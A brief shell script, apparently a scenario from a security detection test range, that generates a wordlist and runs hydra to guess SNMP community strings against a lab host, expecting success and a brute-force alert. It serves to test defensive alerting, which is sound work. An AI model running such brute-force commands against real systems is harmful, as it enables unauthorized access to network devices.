# SPDX-License-Identifier: Apache-2.0
# what: SNMP communities guessed, the last is right
# technique: T1110.001
# from: ws1
# to: lin1
# account: -
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
{ passwords 10; echo public; } >"$HOME/communities"
says 'password: public' timeout 100 hydra -I -P "$HOME/communities" -t 1 -f snmp://$lin1
